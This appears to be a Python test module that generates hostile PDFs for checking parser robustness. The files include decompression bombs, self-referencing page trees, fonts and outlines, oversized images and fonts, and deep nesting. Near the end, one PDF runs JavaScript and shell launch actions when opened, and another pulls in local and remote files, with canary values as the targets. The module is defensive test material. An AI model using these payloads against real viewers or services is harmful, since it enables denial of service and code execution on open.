"""PDF: streams that inflate without end, objects that contain themselves, pages, fonts and pictures out of measure."""

import zlib
from collections.abc import Callable

from tests.faults.hostile.attack import IMAGE_BOMBS, PARSERS, SCRIPTS, Attack, Canary
from tests.faults.hostile.packages import inflating_zlib

_GIBIBYTE = 1024**3


def pdf(*objects: tuple[str, bytes] | str, trailer: str = "") -> bytes:
    """A PDF of numbered objects, 1 being the catalogue; a pair has a stream. Readers find them without a table."""
    parts = [b"%PDF-1.7\n"]
    for number, given in enumerate(objects, start=1):
        head, stream = given if isinstance(given, tuple) else (given, None)
        if stream is None:
            parts.append(f"{number} 0 obj{head}endobj\n".encode())
        else:
            parts.append(f"{number} 0 obj<</Length {len(stream)}{head}>>stream\n".encode())
            parts.append(stream + b"\nendstream endobj\n")
    return b"".join([*parts, f"trailer<</Root 1 0 R{trailer}>>\n".encode()])


def page(contents: tuple[str, bytes], *more: tuple[str, bytes] | str, resources: str = "", box: str = "0 0 612 792",
         catalogue: str = "") -> bytes:  # fmt: skip
    """One page with that content stream (object 4); `more` are objects from 5 on."""
    return pdf(
        f"<</Type/Catalog/Pages 2 0 R{catalogue}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<<{resources}>>>>",
        contents,
        *more,
    )


def inflating(size_bytes: int, rounds: int = 1, unit: bytes = b"0 0 m ") -> bytes:
    data = inflating_zlib(size_bytes, unit)
    for _ in range(rounds - 1):
        data = zlib.compress(data, 9)
    return data


def _picture(filters: str, width: int, height: int, data: bytes) -> bytes:
    image = (
        f"/Type/XObject/Subtype/Image/Width {width}/Height {height}/ColorSpace/DeviceRGB/BitsPerComponent 8{filters}"
    )
    return page(("", b"q 600 0 0 700 0 0 cm /I Do Q"), (image, data), resources="/XObject<</I 5 0 R>>")


def _font(descriptor: str, program: bytes, more: str = "") -> bytes:
    return page(
        ("", b"BT /F 12 Tf 72 700 Td (Bai hoc) Tj ET"),
        f"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 0/LastChar 255/FontDescriptor 6 0 R{more}>>",
        f"<</Type/FontDescriptor/FontName/X/Flags 4/{descriptor} 7 0 R>>",
        ("", program),
        resources="/Font<</F 5 0 R>>",
    )


_FORM = "/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</A 5 0 R/B 6 0 R>>>>"
_LOOPS: dict[str, Callable[[], bytes]] = {
    "pages that are their own children": lambda: pdf(
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000000>>"
    ),
    "a page of ten million pages": lambda: pdf(
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 10000000>>"
    ),
    "forms that draw each other": lambda: page(
        ("", b"/A Do"), (_FORM, b"/B Do /B Do"), (_FORM, b"/A Do /A Do"), resources="/XObject<</A 5 0 R/B 6 0 R>>"
    ),
    "forms that double thirty times": lambda: page(
        ("", b"/X0 Do"),
        *(
            (f"/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X{n + 1} {n + 6} 0 R>>>>", b"/X%d Do " % (n + 1) * 2)
            for n in range(30)
        ),
        ("/Subtype/Form/BBox[0 0 99 99]", b"0 0 9 9 re f"),
        resources="/XObject<</X0 5 0 R>>",
    ),
    "a table that comes before itself": lambda: page(("", b"")) + b"startxref\n0\n%%EOF xref\n0 1\ntrailer<</Prev 9>>",
    "an outline that is its own child": lambda: page(
        ("", b""), "<</First 6 0 R/Last 6 0 R>>", "<</Title(a)/Parent 5 0 R/First 6 0 R/Next 6 0 R/Dest[3 0 R/Fit]>>",
        catalogue="/Outlines 5 0 R",
    ),
    "a length that is itself": lambda: pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Length 2 0 R>>stream\nx\nendstream"),
    "a font that draws itself": lambda: page(
        ("", b"BT /F 9 Tf (a) Tj ET"),
        "<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/FirstChar 97"
        "/LastChar 97/Widths[1]/Encoding<</Differences[97/a]>>/Resources<</Font<</F 5 0 R>>>>>>",
        ("", b"BT /F 9 Tf (aaaa) Tj ET"),
        resources="/Font<</F 5 0 R>>",
    ),
    "a map of letters that uses itself": lambda: page(
        ("", b"BT /F 9 Tf (a) Tj ET"),
        "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[7 0 R]/ToUnicode 6 0 R>>",
        ("/UseCMap 6 0 R", b"/X usecmap\n" + b"1 beginbfrange <0000> <ffff> <0000> endbfrange\n" * 2000),
        "<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<<>>>>",
        resources="/Font<</F 5 0 R>>",
    ),
    "names that lead to each other": lambda: page(("", b""), "<</Kids[5 0 R 5 0 R]>>", catalogue="/Names<</Dests 5 0 R>>"),
    "objects inside objects inside themselves": lambda: pdf(
        "<</Type/Catalog/Pages 2 0 R>>", ("/Type/ObjStm/N 1/First 4/Extends 2 0 R", b"2 0 <</Type/Pages>>")
    ),
}  # fmt: skip

_BOMBS: dict[str, Callable[[], bytes]] = {
    "inflates to a gibibyte": lambda: page(("/Filter/FlateDecode", inflating(_GIBIBYTE))),
    "inflates in two rounds": lambda: page(("/Filter[/FlateDecode/FlateDecode]", inflating(4 * _GIBIBYTE, 2))),
    "runs in rounds": lambda: page(("/Filter[/FlateDecode/RunLengthDecode/ASCIIHexDecode]", inflating(64 << 20, 1, b"\x81")))
    ,
    "columns out of measure": lambda: page(
        ("/Filter/FlateDecode/DecodeParms<</Predictor 12/Colors 32/BitsPerComponent 16/Columns 2147483647>>",
         zlib.compress(b"x" * 999))
    ),
    "a page of endless size": lambda: page(("", b"0 0 m"), box="0 0 1e30 1e30"),
    "a page that is thinner than nothing": lambda: page(("", b"0 0 m"), box="0 0 1e-30 792"),
    "nests without end": lambda: b"%PDF-1.4\n1 0 obj" + b"[" * 2_000_000,
    "nests dictionaries": lambda: b"%PDF-1.4\n1 0 obj" + b"<</A" * 500_000,
    "a hundred thousand pages": lambda: pdf(
        "<</Type/Catalog/Pages 2 0 R>>",
        f"<</Type/Pages/Kids[{'3 0 R ' * 100_000}]/Count 100000>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
    ),
    "a million letters on one place": lambda: page(
        ("/Filter/FlateDecode", zlib.compress(b"BT /F 9 Tf " + b"1 0 0 1 9 9 Tm (abc) Tj " * 300_000 + b"ET")),
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", resources="/Font<</F 5 0 R>>",
    ),
    "a million saved states": lambda: page(("/Filter/FlateDecode", zlib.compress(b"q " * 5_000_000))),
    "truncated": lambda: page(("", b"BT (a) Tj ET"))[:150],
    "rubbish behind a header": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 200,
    "a font of rubbish": lambda: _font("FontFile2", b"\0\1\0\0\0\xff" + bytes(range(256)) * 99),
    "a font with endless tables": lambda: _font("FontFile2", b"\0\1\0\0\xff\xff" + b"glyf\0\0\0\0\0\0\0\0\xff\xff\xff\xff" * 65535),
    "a font that is a program": lambda: _font("FontFile", b"%!PS-AdobeFont-1.0\n" + b"{ { dup exec } dup exec }\n" * 9000),
    "a font that inflates": lambda: _font("FontFile3", inflating(_GIBIBYTE), "/Filter/FlateDecode"),
    "an unknown lock": lambda: page(("", b"")).replace(
        b"/Root 1 0 R>>", b"/Root 1 0 R/Encrypt<</Filter/Standard/V 5/R 9/O()/U()/P -1/Length 2147483647>>/ID[()()]>>"
    ),
}  # fmt: skip

_PICTURES: dict[str, Callable[[], bytes]] = {
    "a picture of 10 gigapixels": lambda: _picture("/Filter/FlateDecode", 100_000, 100_000, inflating(_GIBIBYTE, 1, b"\0")),
    "a JPEG that says 65,500": lambda: _picture(
        "/Filter/DCTDecode", 9, 9, b"\xff\xd8\xff\xc0\0\x11\x08\xff\xdc\xff\xdc\3\1\x11\0\2\x11\0\3\x11\0" + b"\0" * 99
    ),
    "a JPEG 2000 of endless tiles": lambda: _picture(
        "/Filter/JPXDecode", 9, 9,
        b"\xff\x4f\xff\x51\0\x2f\0\0" + b"\x7f\xff\xff\xff" * 2 + b"\0" * 8 + b"\0\0\0\1" * 2 + b"\0" * 8 + b"\0\3\7\1\1" * 3,
    ),
    "a fax of endless rows": lambda: _picture(
        "/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2147483647/Rows 2147483647>>", 100_000, 100_000, b"\0" * 999
    ),
    "a JBIG2 out of measure": lambda: _picture(
        "/Filter/JBIG2Decode", 9, 9, b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\x7f\xff\xff\xff" * 2 + b"\0" * 11
    ),
}  # fmt: skip


def _acting(canary: Canary) -> bytes:
    return page(
        ("", b""),
        f"<</S/JavaScript/JS(app.launchURL\\('{canary.url}/js'\\))>>",
        f"<</S/Launch/F(/bin/sh)/Win<</F(cmd)/P(/c echo {canary.token})>>>>",
        f"<</S/GoToR/F<</FS/URL/F({canary.url}/remote)>>/D[0/Fit]>>",
        catalogue="/OpenAction 5 0 R/AA<</WC 6 0 R/WS 7 0 R>>",
    )


def _outside(canary: Canary) -> bytes:
    """A picture and a page content that lie in another file, or at an address."""
    return page(
        (f"/F(file://{canary.secret})/FFilter/FlateDecode", b""),
        (f"/Type/XObject/Subtype/Image/Width 9/Height 9/F<</FS/URL/F({canary.url}/picture)>>", b""),
        resources="/XObject<</I 5 0 R>>",
    )


ATTACKS = (
    *(
        Attack(f"{name}.pdf", PARSERS, "pdf", lambda _, make=make: make())
        for name, make in {**_LOOPS, **_BOMBS}.items()
    ),
    *(Attack(f"{name}.pdf", IMAGE_BOMBS, "pdf", lambda _, make=make: make()) for name, make in _PICTURES.items()),
    Attack("acts when opened.pdf", SCRIPTS, "pdf", _acting, absent=("launchURL",)),
    Attack("lies in another file.pdf", SCRIPTS, "pdf", _outside),
)
